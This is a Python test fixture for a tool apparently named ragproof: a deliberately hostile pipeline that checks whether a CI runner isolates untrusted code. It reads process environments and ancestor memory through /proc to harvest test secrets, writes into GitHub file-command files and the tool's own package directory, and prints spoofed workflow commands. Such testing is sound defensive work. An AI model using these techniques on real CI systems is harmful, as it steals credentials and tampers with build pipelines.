"""A hostile pipeline: every way it has to reach the job's credentials or to speak to the runner.

It runs in each place untrusted code runs: as a python-adapter target (``hostile:Pipeline``), as a
command pipeline (``python hostile.py stdio``), as an HTTP server (``python hostile.py serve
PORT``, started in the background by the ``install`` command) and as the install command itself
(``python hostile.py install``). Standard library only, so it also runs outside ragproof's venv.

Once per process it probes:
- its environment, ``/proc/self/environ``, and the ``environ`` and ``mem`` of ``/proc/1``, of
  every ancestor (``/proc/$PPID`` and up, as seen when the process started and now) and the
  ``environ`` of every process it can see;
- the file-command variables (``GITHUB_ENV``, ``GITHUB_OUTPUT``, ...) and every file of the
  file-command directory named in ``hostile.json`` (the layout an attacker knows: on GitHub it is
  ``/github/file_commands``): it appends to each and creates a new one;
- ragproof's own package directory (a file there would run inside the process with the secrets);
- every file under the directories listed in ``hostile.json`` (``scan``).

Findings: every string that looks like a test secret (``RPSECRET-...``), what it could open, what
it could write. Pipelines return them as their answer (``HOSTILE-FINDINGS {json}``); the install
command prints them. It also prints workflow commands, on stdout and stderr, each carrying the
word HOSTILE: none of them may be obeyed by the runner.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import sys
from pathlib import Path

SECRET = re.compile(rb"RPSECRET-[0-9a-f]{8,}")
HERE = Path(__file__).resolve().parent
MEM_LIMIT = 256 * 1024 * 1024  # bytes read from one process's memory at most
COMMANDS = [
    "::error::HOSTILE-error",
    "::warning title=x::HOSTILE-warning",
    "::add-mask::HOSTILE",
    "::set-output name=hostile::HOSTILE-output",
    "::stop-commands::HOSTILE-STOP",
    "::notice::HOSTILE-notice-after-own-stop",
    "::HOSTILE-STOP::",
    "##[error]HOSTILE-legacy",
    "text first ##[warning]HOSTILE-legacy-midline",
    "  ::error::HOSTILE-indented",
    "carriage\r::error::HOSTILE-after-cr",
]


def _settings() -> dict:
    path = HERE / "hostile.json"
    try:
        return json.loads(path.read_text())
    except (OSError, ValueError):
        return {}


def _ancestors() -> list[int]:
    pids, pid = [], os.getppid()
    while pid > 0 and pid not in pids:
        pids.append(pid)
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            break
        match = re.search(r"^PPid:\s+(\d+)", status, re.M)
        pid = int(match.group(1)) if match else 0
    return pids


ANCESTORS_AT_START = _ancestors()


class Findings:
    def __init__(self) -> None:
        self.secrets: set[str] = set()
        self.opened: list[str] = []  # sensitive sources it could open
        self.written: list[str] = []  # files it could write
        self.env_names = sorted(os.environ)

    def look(self, data: bytes) -> None:
        self.secrets.update(m.decode() for m in SECRET.findall(data))

    def read(self, path: str, sensitive: bool = True) -> None:
        try:
            with open(path, "rb") as handle:
                data = handle.read(1 << 24)
        except OSError:
            return
        if sensitive:
            self.opened.append(path)
        self.look(data)

    def memory(self, pid: int) -> None:
        try:
            handle = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115
        except OSError:
            return
        self.opened.append(f"/proc/{pid}/mem")
        budget = MEM_LIMIT
        with handle:
            try:
                maps = Path(f"/proc/{pid}/maps").read_text().splitlines()
            except OSError:
                maps = []
            for line in maps:
                parts = line.split()
                if len(parts) < 2 or not parts[1].startswith("r") or budget <= 0:
                    continue
                if len(parts) > 5 and parts[5] in ("[vvar]", "[vsyscall]"):
                    continue
                start, end = (int(x, 16) for x in parts[0].split("-"))
                size = min(end - start, budget)
                try:
                    handle.seek(start)
                    self.look(handle.read(size))
                except (OSError, OverflowError, ValueError):
                    continue
                budget -= size

    def write(self, path: Path) -> None:
        try:
            with open(path, "a", encoding="utf-8") as handle:
                handle.write("HOSTILE=1\n")
        except OSError:
            return
        self.written.append(str(path))

    def as_json(self) -> str:
        return json.dumps(
            {
                "secrets": sorted(self.secrets),
                "opened": sorted(set(self.opened)),
                "written": sorted(set(self.written)),
                "env": self.env_names,
            },
            sort_keys=True,
        )


def probe() -> Findings:
    found = Findings()
    settings = _settings()
    found.look("\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    found.read("/proc/self/environ", sensitive=False)
    targets = sorted({1, *ANCESTORS_AT_START, *_ancestors()} - {os.getpid()})
    for pid in targets:
        found.read(f"/proc/{pid}/environ")
        found.memory(pid)
    own = {os.getpid(), *targets}
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit() and int(entry.name) not in own:
            with contextlib.suppress(OSError):
                found.look(Path(entry, "environ").read_bytes())
    # The runner's file commands: through the variables, and through the directory.
    for name in ("GITHUB_ENV", "GITHUB_OUTPUT", "GITHUB_PATH", "GITHUB_STATE", "GITHUB_STEP_SUMMARY"):
        if os.environ.get(name):
            found.write(Path(os.environ[name]))
    directory = settings.get("file_commands")
    if directory and Path(directory).is_dir():
        for path in sorted(Path(directory).iterdir()):
            found.read(str(path), sensitive=False)
            found.write(path)
        found.write(Path(directory) / "hostile-new-file")
    # ragproof's own code: a module written there would run in the process holding secrets.
    try:
        import importlib.util

        spec = importlib.util.find_spec("gate")
    except (ImportError, ValueError):
        spec = None
    if spec is not None and spec.submodule_search_locations:
        for location in spec.submodule_search_locations:
            target = Path(location) / "hostile_probe.py"
            try:
                target.write_text("# written by the hostile pipeline\n")
            except OSError:
                continue
            found.written.append(str(target))
            target.unlink(missing_ok=True)  # a second worker may have removed it first
    for root in settings.get("scan", []):
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                found.read(os.path.join(dirpath, name), sensitive=False)
    return found


def shout(where: str, *, partial: bool = True) -> None:
    """Workflow commands on both streams, and one partial line without a newline at the end."""
    for line in COMMANDS:
        print(f"{line} ({where})", flush=True)
        print(f"{line} ({where}, stderr)", file=sys.stderr, flush=True)
    if partial:  # not where stdout is a protocol: a partial line would spoil the next reply
        sys.stdout.write("::error::HOSTILE-partial-line")
        sys.stdout.flush()


_FINDINGS: Findings | None = None


def findings_text(where: str) -> str:
    global _FINDINGS
    if _FINDINGS is None:
        shout(where, partial=where != "command")
        _FINDINGS = probe()
    return "HOSTILE-FINDINGS " + _FINDINGS.as_json()


class Pipeline:
    """The python-adapter target."""

    def retrieve(self, question: str, k: int) -> list[dict]:
        return [{"id": "doc-1", "text": findings_text("python")}]

    def answer(self, question: str) -> dict:
        return {"text": findings_text("python")}


def _stdio() -> None:
    for line in sys.stdin:
        request = json.loads(line)
        text = findings_text("command")
        result = [{"id": "doc-1", "text": text}] if request["method"] == "retrieve" else {"text": text}
        print(json.dumps({"id": request["id"], "result": result}), flush=True)


def _serve(port: int) -> None:
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            text = findings_text("http")
            body = [{"id": "doc-1", "text": text}] if self.path == "/retrieve" else {"text": text}
            data = json.dumps(body).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, format: str, *args: object) -> None:
            print("::error::HOSTILE-access-log " + format % args, file=sys.stderr, flush=True)

    ThreadingHTTPServer(("127.0.0.1", port), Handler).serve_forever()


def _wait_for(port: int) -> None:
    import socket
    import time

    for _ in range(600):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return
        except OSError:
            time.sleep(0.1)
    raise SystemExit(f"the hostile server on port {port} did not start")


if __name__ == "__main__":
    mode = sys.argv[1]
    if mode == "stdio":
        _stdio()
    elif mode == "serve":
        _serve(int(sys.argv[2]))
    elif mode == "wait":
        _wait_for(int(sys.argv[2]))
    elif mode == "install":
        print(findings_text("install"), flush=True)
